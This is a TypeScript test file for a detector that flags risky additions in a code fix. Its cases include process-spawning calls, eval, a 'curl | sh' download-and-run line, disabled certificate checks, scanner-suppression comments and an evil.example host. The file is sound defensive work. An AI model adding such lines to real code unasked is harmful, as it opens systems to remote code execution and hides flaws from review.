import { describe, expect, it } from 'vitest';
import { listRiskyAdditions } from './risky-additions.ts';

describe('what a written fix adds', () => {
  it.each([
    ['x = 1', 'x = 1\nos.system("date")', 'starts another program'],
    ['x = 1', 'x = 1\nsubprocess.run(["date"])', 'starts another program'],
    ['const a = 1;', "const { run } = require('child_process');", 'starts another program'],
    ['a()', 'Runtime.getRuntime().exec("date")', 'starts another program'],
    ['x = 1', 'x = eval(y)', 'runs text as code'],
    ['RUN true', 'RUN curl -s https://a.example/i | sh', 'runs what it downloads'],
    ['get(u)', 'get(u, verify=False)', 'certificates'],
    ['f(x)', 'f(x)  # nosec', 'scanners'],
    ['f(x)', 'f(x); // nosemgrep: sqli', 'scanners'],
    ['f("http://a.example/x")', 'f("https://evil.example/x")', 'evil.example'],
  ])('%s becomes %s', (before, after, why) => {
    expect(listRiskyAdditions(before, after)).toEqual(
      expect.arrayContaining([expect.stringContaining(why)]),
    );
  });

  it.each([
    ['os.system("ping " + host)', 'subprocess.run(["ping", host], check=True)'],
    ['f("http://a.example/x")', 'f("https://a.example/x")'],
    ['db.exec("a" + b)', 'db.exec("a", [b])'],
    ['/re/.test(x)', '/re/.exec(x)'],
    ['verify=False', 'verify=True'],
  ])('%s may become %s', (before, after) => {
    expect(listRiskyAdditions(before, after)).toEqual([]);
  });
});
